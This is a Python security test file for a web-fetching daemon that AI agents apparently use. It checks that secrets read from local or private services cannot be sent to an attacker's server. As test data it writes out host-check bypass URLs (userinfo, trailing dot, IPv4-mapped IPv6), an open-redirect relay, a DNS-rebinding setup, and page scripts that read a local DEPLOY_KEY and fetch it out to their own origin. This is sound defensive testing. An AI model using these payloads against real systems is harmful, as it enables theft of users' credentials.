"""Issue 23, third attacker's-eye review of the exit rule, against the real daemon over real sockets.

Held (kept as regression tests): after a private read of a local service, the URL spellings an attacker picks for
its own host (userinfo naming the private origin, a trailing dot, IPv4-mapped IPv6 in both forms, another port of
the private host, the attacker named inside a URL of the private origin) and a redirect hop the private origin
itself answers with: none of them reaches the attacker's server.

Sent before, fixed: a headless page read a local service *itself*, inside the agent's call, and sent what it read
to its own origin. The exit rule judged the session as it was when the call began (clean), and a page's requests
to the origin of its own document are free; the session was tainted only once the call's result was observed,
after the data left. A page at a public address may no longer reach a loopback or private one. Also fixed: a yes
to one port of a local host vouched for all its ports. And an agent that forced ``source=playwright`` relayed through
an open redirect of a vouched origin (Playwright routes no redirect hop): in a session that read private content the
HTTP source walks the hops first, deciding each before it is sent.

Sent before the daemon's headless proxy, fixed: the same page reaching the local service through a name Chromium
resolved again (DNS rebinding). Chromium now resolves nothing: the proxy connects to the address trawl checked.
"""

from __future__ import annotations

import json
import socket
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from aiohttp import web
from trawl.exitflow import FlowMemory, agent_session, host_of
from trawl.exits import site_of
from trawl.server.runner import RunningDaemon
from trawl.settings import Settings
from trawl.sources.http import HttpSource
from trawl.sources.playwright import PlaywrightSource

from tests.integration.test_daemon_helpers import daemon_settings
from tests.security.test_exits import TOKEN, Server, fetch, page, serve
from tests.security.test_exits import attacker as attacker  # the fixture
from tests.security.test_private_hosts import Internet, Rebinding, v1_fetch

FILLER = "The harbour office lists the ferry times to the outer islands for every day of the week."


@pytest.fixture
async def service(attacker: Server) -> AsyncIterator[Server]:
    """A local service (``localhost``: private by name and by address) whose notes show a secret, and whose
    ``/bounce`` redirects wherever it is told (an open redirect of the private origin)."""
    srv = Server("")

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        if request.path.startswith("/bounce/"):  # /bounce/<port>/<rest>: no host named in the URL itself
            _b, _n, port, rest = request.path.split("/", 3)
            raise web.HTTPFound(f"http://127.0.0.1:{port}/{rest}?{request.query_string}")
        return web.Response(
            text=page("Notes", f"<p>The payment API key is {TOKEN}; it stays in the team.</p>" * 2),
            content_type="text/html",
        )

    runner, port = await serve("127.0.0.1", handle)
    srv.url = f"http://localhost:{port}"
    yield srv
    await runner.cleanup()


async def test_spellings_of_the_attackers_host_are_held_after_a_private_read(
    tmp_path: Path, service: Server, attacker: Server
) -> None:
    port = attacker.url.rsplit(":", 1)[1]
    own_port = service.url.rsplit(":", 1)[1]
    k = TOKEN[::-1]
    tries = [
        f"http://localhost:{own_port}@127.0.0.1:{port}/userinfo?k={k}",  # the private origin as userinfo
        f"http://127.0.0.1.:{port}/dot?k={k}",  # a trailing dot
        f"http://[::ffff:127.0.0.1]:{port}/mapped?k={k}",
        f"http://[::ffff:7f00:1]:{port}/mapped-hex?k={k}",
        f"http://LOCALHOST:{port}/port?k={k}",  # the private host, another port (another service)
        f"{service.url}/search?next=http://127.0.0.1:{port}/nested?k={k}",  # the attacker named inside
        f"{service.url}/bounce/{port}/hop?k={k}",  # the private origin relays by a hop
    ]
    async with RunningDaemon(daemon_settings(tmp_path, allow_private_hosts=True), warm=False) as d:
        notes = await fetch(d, f"{service.url}/notes")
        assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
        for url in tries:
            body = await fetch(d, url)
            assert body["ok"] is False and body["error"]["code"] in ("exit_held", "exit_refused"), (url, body)
    assert attacker.hits == [], attacker.hits
    # The private origin answered its bounce (the hop was decided before it was sent, and held).
    assert any(h.startswith("/bounce") for h in service.hits), service.hits


@pytest.fixture
async def dev_server() -> AsyncIterator[Server]:
    """The user's local dev server on 127.0.0.1: its ``/env.js`` sets a secret in the page that includes it (no
    CORS needed: a script include runs in the including page)."""
    srv = Server("")

    async def handle(request: web.Request) -> web.Response:
        srv.hits.append(str(request.rel_url))
        return web.Response(text=f"window.DEPLOY_KEY = {json.dumps(TOKEN)};", content_type="application/javascript")

    runner, port = await serve("127.0.0.1", handle)
    srv.url = f"http://127.0.0.1:{port}"
    yield srv
    await runner.cleanup()


@pytest.mark.parametrize("doc", ["public", "local"])
async def test_a_public_headless_page_cannot_read_a_local_service_and_send_it_home(
    tmp_path: Path, chromium: str, dev_server: Server, monkeypatch: pytest.MonkeyPatch, doc: str
) -> None:
    """Sent before: in a session that had read nothing, the agent opened the attacker's page; its script included
    the dev server's ``/env.js`` and fetched ``/c?k=<the secret>`` from its own origin, in the same call (the exit
    rule judged the session clean, and a page's own origin is free). Now a page at a public address may not reach
    a loopback or private address at all. ``local``: the same page at a loopback address (a local front end and its
    local API) still includes the script, so the attack is mounted for real."""
    hits: list[str] = []
    script = f"""<script src="{dev_server.url}/env.js"></script><script>
      fetch('/c?k=' + encodeURIComponent(String(window.DEPLOY_KEY)))
        .then(r => r.text(), () => 'failed').then(t => {{
          document.querySelector('#out').textContent = {json.dumps(" ".join([FILLER] * 3))} + ' Sent: ' + t; }});
    </script>"""

    async def handle(request: web.Request) -> web.Response:
        hits.append(str(request.rel_url))
        if request.path == "/c":
            return web.Response(text="the collector answered")
        return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")

    # The attacker's page listens on 127.0.0.2. "public": a name trawl's resolver places on the internet, at an
    # address the test's internet serves from 127.0.0.2 (a public site, as far as every check can tell; Chromium's
    # own resolver, which the daemon's proxy never lets it use, would say 127.0.0.2 too); "local": the address.
    monkeypatch.setattr(socket, "getaddrinfo", Rebinding([["93.184.215.14"]]))
    app = web.Application()
    app.router.add_get("/{tail:.*}", handle)
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.2", 0).start()
    port = int(runner.addresses[0][1])
    Internet({("93.184.215.14", port): ("127.0.0.2", port)}).install(monkeypatch)
    settings = daemon_settings(
        tmp_path, chromium_path=chromium, render_empty_wait_s=40.0, render_timeout_s=50.0, request_timeout_s=90.0
    )
    sources = [
        HttpSource(settings),
        PlaywrightSource(settings, extra_args=("--host-resolver-rules=MAP rebind.test 127.0.0.2",)),
    ]
    host = "rebind.test" if doc == "public" else "127.0.0.2"
    try:
        async with RunningDaemon(settings, sources=sources, warm=False) as d:
            body = await v1_fetch(d, f"http://{host}:{port}/harbour", query="", source="playwright")
    finally:
        await runner.cleanup()
    # The page's script ran to its end (it wrote what its own origin answered).
    assert body["ok"] is True and "collector answered" in str(body["chunks"]), body
    sent = [h for h in hits if h.startswith("/c")]
    assert sent, hits
    if doc == "public":
        assert dev_server.hits == [], dev_server.hits  # never asked
        assert not any(TOKEN in h for h in sent), f"the page's origin received {sent}"
        assert any("private-network rule" in w for w in body["warnings"]), body["warnings"]
    else:
        assert any(h.startswith("/env.js") for h in dev_server.hits), dev_server.hits
        assert any(TOKEN in h for h in sent), sent


@pytest.mark.parametrize("proxied", [True, False], ids=["proxy", "no-proxy"])
async def test_a_rebinding_name_cannot_carry_a_local_service_to_a_public_page(
    tmp_path: Path, chromium: str, monkeypatch: pytest.MonkeyPatch, proxied: bool
) -> None:
    """Sent before the daemon's proxy: the attacker's public page includes ``http://rebind.test:<port>/env.js``;
    trawl's check resolved the name to a public address, Chromium resolved it again (the rebinding answer, here
    ``--host-resolver-rules``) to the local dev server on 127.0.0.2, and the page's script sent the secret it read
    to its own origin within the call (the page was judged private only afterwards). Now Chromium never resolves:
    the proxy connects to the public address trawl checked, which serves nothing on that port, and the local
    service is never asked. ``no-proxy`` (``use_proxy=False``, what the daemon never runs) mounts the same attack
    without the proxy and shows it lands: the test would fail without the proxy."""
    hits: list[str] = []
    local: list[str] = []

    async def dev(request: web.Request) -> web.Response:
        local.append(str(request.rel_url))
        return web.Response(text=f"window.DEPLOY_KEY = {json.dumps(TOKEN)};", content_type="application/javascript")

    async def handle(request: web.Request) -> web.Response:
        hits.append(str(request.rel_url))
        if request.path == "/c":
            return web.Response(text="the collector answered")
        script = f"""<script src="http://rebind.test:{dev_port}/env.js"></script><script>
          fetch('/c?k=' + encodeURIComponent(String(window.DEPLOY_KEY)))
            .then(r => r.text(), () => 'failed').then(t => {{
              document.querySelector('#out').textContent = {json.dumps(" ".join([FILLER] * 3))} + ' ' + t; }});
        </script>"""
        return web.Response(text=page("Harbour", f"<p id=out></p>{script}"), content_type="text/html")

    monkeypatch.setattr(socket, "getaddrinfo", Rebinding([["93.184.215.14"]]))  # trawl: a public address
    runners = []
    ports = []
    for handler in (dev, handle):
        app = web.Application()
        app.router.add_get("/{tail:.*}", handler)
        runner = web.AppRunner(app, access_log=None)
        await runner.setup()
        await web.TCPSite(runner, "127.0.0.2", 0).start()  # Chromium: rebind.test is 127.0.0.2
        runners.append(runner)
        ports.append(int(runner.addresses[0][1]))
    dev_port, port = ports
    # On the internet, the public address serves the attacker's page (its port only).
    internet = Internet({("93.184.215.14", port): ("127.0.0.2", port)}).install(monkeypatch)
    settings = daemon_settings(
        tmp_path, chromium_path=chromium, render_empty_wait_s=40.0, render_timeout_s=50.0, request_timeout_s=90.0
    )
    sources = [
        HttpSource(settings),
        PlaywrightSource(settings, extra_args=("--host-resolver-rules=MAP rebind.test 127.0.0.2",),
                         use_proxy=proxied),
    ]
    try:
        async with RunningDaemon(settings, sources=sources, warm=False) as d:
            body = await v1_fetch(d, f"http://rebind.test:{port}/harbour", query="", source="playwright")
    finally:
        for runner in runners:
            await runner.cleanup()
    sent = [h for h in hits if h.startswith("/c")]
    assert sent, (hits, body)  # the page's script ran to its fetch home
    if not proxied:  # the attack, as it landed before the proxy
        assert local and any(TOKEN in h for h in sent), (local, sent)
        return
    assert body["ok"] is True and "collector answered" in str(body["chunks"]), body
    assert local == [], f"the local service was asked: {local}"
    assert not any(TOKEN in h for h in sent), f"the page's origin received {sent}"
    # The proxy connected to the address trawl checked, for the page and for the script it included.
    assert ("93.184.215.14", port) in internet.asked and ("93.184.215.14", dev_port) in internet.asked


async def test_a_forced_headless_fetch_cannot_relay_through_the_private_origins_redirect(
    tmp_path: Path, chromium: str, service: Server, attacker: Server
) -> None:
    port = attacker.url.rsplit(":", 1)[1]
    settings = daemon_settings(tmp_path, allow_private_hosts=True, chromium_path=chromium, render_timeout_s=40.0)
    async with RunningDaemon(settings, warm=False) as d:
        notes = await fetch(d, f"{service.url}/notes")
        assert notes["ok"] is True and TOKEN in str(notes["chunks"]), notes
        body = await v1_fetch(d, f"{service.url}/bounce/{port}/hop?k={TOKEN[::-1]}", query="", source="playwright")
    assert body["ok"] is False and body["error"]["code"] == "exit_held", body  # held, as far as the agent sees
    assert any(h.startswith("/bounce/") for h in service.hits), service.hits  # the private origin was asked
    assert attacker.hits == [], f"the attacker received {attacker.hits}"


def test_a_yes_for_one_port_of_a_local_host_does_not_vouch_for_its_other_ports() -> None:
    """Sent before: the user's yes to ``http://127.0.0.1:8000`` (their own service) covered the host's registrable
    "domain", the address itself, so every other port on it (any local user's listener) received the data."""
    flow = FlowMemory(Settings(), site_of)
    with agent_session("review3-grant"):
        flow.observe("fetch", {"url": "/home/u/notes.md", "source": "file"})
        asked = "http://127.0.0.1:8000/import?k=1"
        assert not _sent(flow, asked)
        flow.hold(asked)
        assert flow.take_grant(asked)
        assert _sent(flow, "http://127.0.0.1:8000/import?k=2")  # the yes stands for that origin ...
        assert not _sent(flow, "http://127.0.0.1:9999/c?k=2")  # ... not for another port of the host
        # A public site's yes still covers its registrable domain (SECURITY.md).
        flow.hold("https://docs.example.com/a")
        assert flow.take_grant("https://docs.example.com/a")
        assert _sent(flow, "https://api.example.com/b")


def _sent(flow: FlowMemory, url: str) -> bool:
    return flow.decide(url, [host_of(url)], lambda _h: False).send
